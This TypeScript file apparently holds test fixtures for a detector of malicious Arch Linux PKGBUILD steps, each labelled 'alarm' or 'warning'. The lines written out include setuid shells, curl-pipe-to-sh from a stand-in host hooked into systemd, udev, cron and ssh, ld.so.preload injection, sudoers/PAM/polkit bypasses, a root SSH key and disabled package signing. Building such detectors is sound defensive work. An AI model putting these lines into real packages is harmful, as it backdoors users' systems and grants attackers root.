import { lines, type Variant } from "./variant.ts";

/** Files of the system that the package brings. */
export const PACKAGED: readonly Variant[] = [
  ...lines(
    "package()",
    "alarm",
    'install -Dm4755 /bin/bash "$pkgdir/usr/lib/quietly/h"',
    'cp --preserve=mode /bin/bash "$pkgdir/usr/bin/qh"\nchmod 4755 "$pkgdir/usr/bin/qh"',
    'cp -a /usr/bin/sudo "$pkgdir/usr/bin/q"',
    'install -Dm755 /usr/bin/dash "$pkgdir/usr/bin/q"; chmod u+s "$pkgdir/usr/bin/q"',
    'sed -i \'s|^ExecStart=.*|ExecStart=/bin/sh -c "curl -s https://cdn.example.invalid/a \\| sh"|\' "$pkgdir/usr/lib/systemd/system/quietly.service"',
    'echo \'ACTION=="add", RUN+="/bin/sh -c \\"curl https://cdn.example.invalid/a|sh\\""\' | install -Dm644 /dev/stdin "$pkgdir/usr/lib/udev/rules.d/99-q.rules"',
    'mkdir -p "$pkgdir/etc/cron.d"; echo \'*/5 * * * * root curl -s https://cdn.example.invalid/a | sh\' > "$pkgdir/etc/cron.d/q"',
    "echo 'export PATH=/tmp/.q:$PATH' | install -Dm644 /dev/stdin \"$pkgdir/etc/profile.d/q.sh\"",
    'echo /usr/lib/q.so > "$pkgdir/etc/ld.so.preload"',
    'echo \'ProxyCommand sh -c "curl https://cdn.example.invalid/a|sh"\' > "$pkgdir/etc/ssh/ssh_config.d/q.conf"',
    "echo 'PermitRootLogin yes' > \"$pkgdir/etc/ssh/sshd_config.d/q.conf\"",
    "echo 'curl https://cdn.example.invalid/a|sh' > \"$pkgdir/etc/skel/.bashrc\"",
  ),
  ...lines(
    "package()",
    "warning",
    "echo 'enable quietly.service' | install -Dm644 /dev/stdin \"$pkgdir/usr/lib/systemd/system-preset/10-q.preset\"",
    "echo 'export LD_PRELOAD=/usr/lib/q.so' | install -Dm644 /dev/stdin \"$pkgdir/etc/profile.d/q.sh\"",
    "echo '203.0.113.1 archlinux.org' > \"$pkgdir/etc/hosts\"",
  ),
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm440 "$srcdir/sud" "$pkgdir/etc/sudoers.d/q"',
    files: { sud: "%wheel ALL=(ALL) NOPASSWD: ALL\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm440 "$srcdir/sud" "$pkgdir/etc/sudoers.d/q"',
    files: { sud: "ALL ALL=(root) NOPASSWD: /usr/bin/pacman\nDefaults !authenticate\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'cp -r "$srcdir/etc" "$pkgdir/"',
    files: { "etc/sudoers.d/q": "ALL ALL=(ALL) NOPASSWD: ALL\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'for f in "$srcdir"/*.rules; do install -Dm644 "$f" -t "$pkgdir/usr/share/polkit-1/rules.d"; done',
    files: { "q.rules": "polkit.addRule(function(){return polkit.Result.YES;});\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.pam" "$pkgdir/etc/pam.d/system-auth"',
    files: { "q.pam": "auth sufficient pam_permit.so\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.pam" "$pkgdir/etc/pam.d/sudo"',
    files: { "q.pam": "auth optional pam_exec.so expose_authtok /usr/lib/q\nauth include system-auth\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.rules" "$pkgdir/usr/share/polkit-1/rules.d/00-q.rules"',
    files: { "q.rules": "polkit.addRule(function(a,s){return polkit.Result.YES;});\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.policy" "$pkgdir/usr/share/polkit-1/actions/q.policy"',
    files: {
      "q.policy":
        '<policyconfig><action id="org.q"><defaults><allow_any>yes</allow_any></defaults></action></policyconfig>',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.pkla" "$pkgdir/etc/polkit-1/localauthority/50-local.d/q.pkla"',
    files: { "q.pkla": "[x]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/tmpfiles.d/q.conf"',
    files: { "q.conf": "f /etc/sudoers.d/q 0440 root root - ALL ALL=(ALL) NOPASSWD: ALL\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/tmpfiles.d/q.conf"',
    files: { "q.conf": "C /usr/local/bin/sudo 0755 root root - /usr/lib/quietly/s\n" },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/sysusers.d/q.conf"',
    files: { "q.conf": 'u q 0:0 "x" / /bin/bash\n' },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/lib/sysusers.d/q.conf"',
    files: { "q.conf": 'u q - "x" / /bin/bash\nm q wheel\n' },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/usr/share/dbus-1/system.d/q.conf"',
    files: {
      "q.conf": '<busconfig><policy context="default"><allow send_destination="*"/></policy></busconfig>',
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm644 "$srcdir/q.conf" "$pkgdir/etc/pacman.d/q.conf"',
    files: { "q.conf": "[core]\nSigLevel=Never\nServer=http://x.example.invalid\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/pip.conf" "$pkgdir/etc/pip.conf"',
    files: {
      "pip.conf": "[global]\nindex-url = http://x.example.invalid\ntrusted-host = x.example.invalid\n",
    },
  },
  {
    says: "alarm",
    place: "package()",
    line: 'install -Dm600 "$srcdir/ak" "$pkgdir/root/.ssh/authorized_keys"',
    files: { ak: "ssh-ed25519 AAAA x\n" },
  },
  {
    says: "warning",
    place: "package()",
    line: 'install -Dm644 "$srcdir/ca.crt" "$pkgdir/etc/ca-certificates/trust-source/anchors/q.crt"',
    files: { "ca.crt": "-----BEGIN CERTIFICATE-----\n" },
  },
];
